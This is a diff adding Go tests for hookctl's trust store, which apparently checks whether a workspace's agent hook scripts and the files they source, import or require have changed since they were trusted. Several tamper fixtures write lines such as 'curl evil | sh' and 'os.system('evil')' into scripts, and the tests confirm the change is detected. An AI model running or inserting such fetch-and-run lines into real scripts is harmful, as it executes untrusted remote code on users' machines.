@@ -1,0 +1,323 @@
+package trust
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/hookctl/hookctl/schema"
+)
+
+// followed writes a trusted workspace whose scripts, some outside the
+// hooks' folder, source, import and require others, and returns the store
+// that trusts it (saved and read back) and its hooks.json.
+func followed(t *testing.T) (string, *Store, *schema.Config) {
+	t.Helper()
+	root, err := Key(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"sh hooks/main.sh"},{"command":"python3 ../scripts/check.py"},{"command":"node ../scripts/c.js"}]}]}}`)
+	write(t, root, ".agents/hooks/main.sh", ". ./hooks/lib.sh\n. ../lib/opt.sh\necho ok\n")
+	write(t, root, ".agents/hooks/lib.sh", "x=1\n")
+	write(t, root, "scripts/check.py", "import helper\nimport util\nprint(1)\n")
+	write(t, root, "scripts/util.py", "X = 1\n")
+	write(t, root, "scripts/c.js", "require('./l')\n")
+	write(t, root, "scripts/l.js", "module.exports = 1\n")
+	cfg := loadConfig(t, root)
+	st := &Store{Path: filepath.Join(t.TempDir(), "trust.json"), Workspaces: map[string]*Record{}}
+	st.Workspaces[root] = NewRecord(FromConfig(root, cfg), time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC))
+	if err := st.Save(); err != nil {
+		t.Fatal(err)
+	}
+	st, err = Open(st.Path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.Workspaces[root].Probed != nil {
+		t.Fatal("Open read the probes before they were needed")
+	}
+	if st.LoadProbed(root); st.Workspaces[root].Probed == nil {
+		t.Fatal("the record keeps no probes")
+	}
+	return root, st, cfg
+}
+
+func loadConfig(t *testing.T, root string) *schema.Config {
+	t.Helper()
+	p := filepath.Join(root, HooksFile)
+	src, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return schema.Parse(p, src)
+}
+
+// gapsOf lists every command's gaps and files, for comparing snapshots.
+func gapsOf(s *Snapshot) []string {
+	var out []string
+	for _, c := range s.Commands {
+		out = append(out, c.Command)
+		out = append(out, c.Gaps...)
+		out = append(out, c.Files...)
+	}
+	return out
+}
+
+// The record's probes stand for a snapshot: unchanged, the check takes
+// the record's verdict, and that verdict, the fingerprint and the gaps
+// are exactly those of a snapshot taken afresh.
+func TestProbedSameAsFresh(t *testing.T) {
+	kinds := map[string]func(t *testing.T) (string, *Store, *schema.Config){"followed": followed}
+	for _, kind := range []string{"small", "shell1MiB", "python"} {
+		kinds[kind] = func(t *testing.T) (string, *Store, *schema.Config) {
+			root, cfg := followWorkspace(t, kind)
+			return root, &Store{Workspaces: map[string]*Record{root: NewRecord(FromConfig(root, cfg), time.Now())}}, cfg
+		}
+	}
+	for name, mk := range kinds {
+		t.Run(name, func(t *testing.T) {
+			root, st, cfg := mk(t)
+			rec := st.Workspaces[root]
+			if !rec.Unchanged(cfg) {
+				t.Fatal("an unchanged workspace is not taken as unchanged")
+			}
+			ok, why := st.Verify(root, cfg)
+			fresh := FromConfig(root, cfg)
+			fok, fwhy := st.Check(fresh)
+			if ok != fok || why != fwhy || !ok {
+				t.Fatalf("probed verdict %v %q, fresh %v %q", ok, why, fok, fwhy)
+			}
+			if fresh.Fingerprint != rec.Fingerprint {
+				t.Fatalf("fresh fingerprint %s, recorded %s", fresh.Fingerprint, rec.Fingerprint)
+			}
+			if got, want := gapsOf(snapshot(root, cfg, rec)), gapsOf(fresh); !slices.Equal(got, want) {
+				t.Fatalf("gaps with the record %q, fresh %q", got, want)
+			}
+		})
+	}
+}
+
+// Every change after trust that would make another file run, or a file
+// run differently, is caught: the probes differ, and the check says
+// exactly what a fresh snapshot says.
+func TestProbedAttacks(t *testing.T) {
+	const since = "changed since trusted on 2026-01-02T03:04:05Z: "
+	for _, tc := range []struct {
+		name   string
+		attack func(t *testing.T, root string)
+		// want is the change named, its beginning when it ends in "…".
+		want string
+	}{
+		{"edit a sourced script", func(t *testing.T, root string) {
+			write(t, root, ".agents/hooks/lib.sh", "curl evil | sh\n")
+		}, "changed .agents/hooks/lib.sh"},
+		{"same size and mtime", func(t *testing.T, root string) {
+			p := filepath.Join(root, ".agents/hooks/lib.sh")
+			info, err := os.Stat(p)
+			if err != nil {
+				t.Fatal(err)
+			}
+			write(t, root, ".agents/hooks/lib.sh", "x=2\n")
+			if err := os.Chtimes(p, info.ModTime(), info.ModTime()); err != nil {
+				t.Fatal(err)
+			}
+		}, "changed .agents/hooks/lib.sh"},
+		{"a sourced path appears", func(t *testing.T, root string) {
+			write(t, root, "lib/opt.sh", "curl evil | sh\n")
+		}, "added lib/opt.sh"},
+		{"a module that was missing appears", func(t *testing.T, root string) {
+			write(t, root, "scripts/helper.py", "import os; os.system('evil')\n")
+		}, "added scripts/helper.py"},
+		{"a package shadows a module", func(t *testing.T, root string) {
+			write(t, root, "scripts/helper/__init__.py", "import os\n")
+		}, "added scripts/helper/__init__.py"},
+		{"edit an imported module", func(t *testing.T, root string) {
+			write(t, root, "scripts/util.py", "X = 2\n")
+		}, "changed scripts/util.py"},
+		{"a required path node takes first appears", func(t *testing.T, root string) {
+			write(t, root, "scripts/l", "evil()\n")
+		}, "added scripts/l"},
+		{"a followed script replaced by a link", func(t *testing.T, root string) {
+			write(t, root, "elsewhere/lib.sh", "curl evil | sh\n")
+			p := filepath.Join(root, ".agents/hooks/lib.sh")
+			if err := os.Remove(p); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Symlink(filepath.Join(root, "elsewhere/lib.sh"), p); err != nil {
+				t.Fatal(err)
+			}
+		}, "changed .agents/hooks/lib.sh, added elsewhere/lib.sh"},
+		{"a link to an identical copy", func(t *testing.T, root string) {
+			// Same bytes, another file: what runs is now the copy, which
+			// can change without the link changing.
+			write(t, root, "elsewhere/util.py", "X = 1\n")
+			p := filepath.Join(root, "scripts/util.py")
+			if err := os.Remove(p); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Symlink(filepath.Join(root, "elsewhere/util.py"), p); err != nil {
+				t.Fatal(err)
+			}
+		}, "added elsewhere/util.py, removed scripts/util.py (no longer named)"},
+		{"a folder on the way replaced by a link to a copy", func(t *testing.T, root string) {
+			for _, f := range []string{"check.py", "util.py", "c.js", "l.js"} {
+				b, err := os.ReadFile(filepath.Join(root, "scripts", f))
+				if err != nil {
+					t.Fatal(err)
+				}
+				write(t, root, "copy/"+f, string(b))
+			}
+			if err := os.RemoveAll(filepath.Join(root, "scripts")); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Symlink(filepath.Join(root, "copy"), filepath.Join(root, "scripts")); err != nil {
+				t.Fatal(err)
+			}
+		}, "added copy/c.js, added copy/check.py, added copy/l (named, not there), added copy/l.js, added copy/util.py, removed scripts/c.js (no longer named), removed scripts/check.py (no longer named), …"},
+		{"new code in the hooks' folder", func(t *testing.T, root string) {
+			write(t, root, ".agents/hooks/new.sh", "evil\n")
+		}, "added .agents/hooks/new.sh"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			root, st, cfg := followed(t)
+			tc.attack(t, root)
+			if st.Workspaces[root].Unchanged(cfg) {
+				t.Fatal("the probes do not see the change")
+			}
+			ok, why := st.Verify(root, cfg)
+			fok, fwhy := st.Check(FromConfig(root, cfg))
+			want, prefix := strings.CutSuffix(since+tc.want, "…")
+			if ok || prefix && !strings.HasPrefix(why, want) || !prefix && why != want || fok || fwhy != why {
+				t.Fatalf("Verify = %v %q, fresh %v %q; want false %q", ok, why, fok, fwhy, since+tc.want)
+			}
+		})
+	}
+}
+
+// An edited hooks.json is never taken on the probes, whatever the files.
+func TestProbedHooksFile(t *testing.T) {
+	root, st, _ := followed(t)
+	write(t, root, HooksFile, `{"g":{"PreToolUse":[{"hooks":[{"command":"sh hooks/main.sh"}]}]}}`)
+	cfg := loadConfig(t, root)
+	if st.Workspaces[root].Unchanged(cfg) {
+		t.Fatal("an edited hooks.json is taken as unchanged")
+	}
+	if ok, _ := st.Verify(root, cfg); ok {
+		t.Fatal("an edited hooks.json is trusted")
+	}
+}
+
+// A record made before the probes, or by a hookctl that probes otherwise,
+// is checked in full, as it was.
+func TestProbedOldRecord(t *testing.T) {
+	for _, p := range []*Probed{nil, {Version: probeVersion + 1}} {
+		root, st, cfg := followed(t)
+		rec := st.Workspaces[root]
+		if err := os.RemoveAll(st.probedDir()); err != nil {
+			t.Fatal(err)
+		}
+		if p != nil {
+			p.Paths = rec.Probed.Paths
+		}
+		rec.Probed = p
+		if rec.Unchanged(cfg) {
+			t.Fatal("a record without this hookctl's probes is taken as unchanged")
+		}
+		if ok, why := st.Verify(root, cfg); !ok {
+			t.Fatalf("an unchanged workspace of an old record is refused: %s", why)
+		}
+		write(t, root, ".agents/hooks/lib.sh", "evil\n")
+		if ok, why := st.Verify(root, cfg); ok || why != "changed since trusted on 2026-01-02T03:04:05Z: changed .agents/hooks/lib.sh" {
+			t.Fatalf("Verify = %v %q", ok, why)
+		}
+	}
+}
+
+// A workspace that cannot be trusted keeps no probes, so the check never
+// takes a verdict its snapshot refused.
+func TestProbedRefused(t *testing.T) {
+	root, err := Key(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, root, HooksFile, `{"g":{"Stop":[{"command":"sh hooks/a.sh"}]}}`)
+	if err := os.MkdirAll(filepath.Join(root, ".agents/hooks"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := syscall.Mkfifo(filepath.Join(root, ".agents/hooks/a.sh"), 0o644); err != nil {
+		t.Skip("no FIFO:", err)
+	}
+	snap := FromConfig(root, loadConfig(t, root))
+	if snap.Refused == "" {
+		t.Fatal("a FIFO script is not refused")
+	}
+	if rec := NewRecord(snap, time.Now()); rec.Probed != nil {
+		t.Fatal("a refused snapshot keeps probes")
+	}
+}
+
+// The probes live beside trust.json, which keeps the format an earlier
+// hookctl reads; a probes file that others could write, or that was made
+// for another record, is not read.
+func TestProbedFile(t *testing.T) {
+	root, st, cfg := followed(t)
+	b, err := os.ReadFile(st.Path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(b), "probed") {
+		t.Fatalf("trust.json holds the probes, which an earlier hookctl refuses:\n%s", b)
+	}
+	reopen := func() *Record {
+		t.Helper()
+		st, err := Open(st.Path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		st.LoadProbed(root)
+		return st.Workspaces[root]
+	}
+	p := st.probedPath(root)
+	if err := os.Chmod(p, 0o666); err != nil {
+		t.Fatal(err)
+	}
+	if reopen().Probed != nil {
+		t.Fatal("a probes file others can write is read")
+	}
+	if err := os.Chmod(p, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if r := reopen(); r.Probed == nil || !r.Unchanged(cfg) {
+		t.Fatal("the probes file is not read back")
+	}
+	// Trusted again with other content: the old probes stand for nothing.
+	write(t, root, ".agents/hooks/lib.sh", "x=2\n")
+	old, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	st.Workspaces[root] = NewRecord(FromConfig(root, cfg), time.Now())
+	if err := st.Save(); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, old, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if reopen().Probed != nil {
+		t.Fatal("probes made for another fingerprint are read")
+	}
+	// Revoked, its probes file goes.
+	delete(st.Workspaces, root)
+	st.Workspaces["/elsewhere"] = NewRecord(&Snapshot{Fingerprint: "sha256:" + strings.Repeat("0", 64), Files: []File{hashBytes(HooksFile, nil)}}, time.Now())
+	if err := st.Save(); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(p); !os.IsNotExist(err) {
+		t.Fatalf("the probes of a revoked workspace stay: %v", err)
+	}
+}
